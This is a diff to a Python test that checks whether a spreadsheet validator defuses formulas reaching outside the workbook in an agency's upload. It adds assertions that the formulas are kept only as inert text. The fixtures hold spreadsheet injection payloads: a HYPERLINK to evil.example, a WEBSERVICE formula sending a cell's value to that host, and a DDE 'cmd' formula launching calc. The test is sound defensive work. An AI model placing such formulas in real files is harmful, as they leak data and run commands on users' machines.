@@ -293,10 +293,16 @@ def test_agency_formulas_that_reach_outside_are_defused(tmp_path, spec, registry
     submission, issues = check(source, spec, registry)
     assert any(i.severity is Severity.ERROR for i in issues)
     out = feedback_for_file(source, submission, issues, spec, tmp_path / "fb")
-    text = "\n".join(members(out).values())
+    formulas = "\n".join(re.findall(r"<f\b[^>]*>[^<]*</f>", "\n".join(members(out).values())))
     for bad in ("HYPERLINK", "WEBSERVICE", "cmd|", "evil.example"):
-        assert bad not in text, bad
+        assert bad not in formulas, bad  # in no formula; as text, see below
     copy = openpyxl.load_workbook(out)
+    # Saved by openpyxl, they have no value to show: each becomes its own text, as text (the agency sees what it
+    # typed; the issues sheet says so), never a formula or a link.
+    for cell, typed in (("D79", '=HYPERLINK("http://evil.example","Bấm vào đây")'),
+                        ("D80", '=WEBSERVICE("http://evil.example/?q="&D7)'), ("D81", "=cmd|' /C calc'!A0")):
+        assert (copy["Hiện trạng"][cell].value, copy["Hiện trạng"][cell].data_type) == (typed, "s")
+        assert copy["Hiện trạng"][cell].hyperlink is None
     assert copy["Hiện trạng"]["D82"].data_type == "f"
     assert "leak" not in copy.defined_names
     # The template's own formulas still compute: the computed ratio and the project totals.
